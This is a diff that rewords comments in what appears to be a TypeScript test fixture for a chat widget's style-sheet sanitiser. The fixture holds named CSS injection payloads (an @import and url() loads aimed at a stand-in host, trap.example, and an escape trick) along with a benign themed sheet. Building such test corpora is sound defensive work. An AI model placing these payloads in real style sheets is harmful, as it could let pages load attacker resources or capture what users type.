@@ -1,11 +1,11 @@
-/** Where the payloads want to go. */
+/** Address that the payloads try to reach. */
 export const CSS_TRAP = 'https://trap.example';
 
 const at = (path: string): string => `${CSS_TRAP}/${path}`;
 
 /**
- * Style sheets that want to load something, run something, see what is typed or leave the chat;
- * each with a name.
+ * Style sheets, by name, that try to load something, run something, read what a person types, or
+ * change the page outside the chat.
  */
 export const CSS_PAYLOADS: Readonly<Record<string, string>> = {
   'an import': `@import "${at('1')}";`,
@@ -89,7 +89,7 @@ export const CSS_PAYLOADS: Readonly<Record<string, string>> = {
   'an escape at the end': `.panel{background:url(${at('75')})}\\`,
 };
 
-/** A sheet as owners and their helpers write them. */
+/** A style sheet as owners and their helpers write it. */
 export const PIZZA_THEME = `/* Card images: 16/9 */
 :root { --vg-primary: #c8102e; --crust: #f4d9a6; }
 .launcher { background: radial-gradient(circle at 30% 30%, #ffd166, #c8102e); box-shadow: 0 6px 20px rgba(200, 16, 46, .4); }
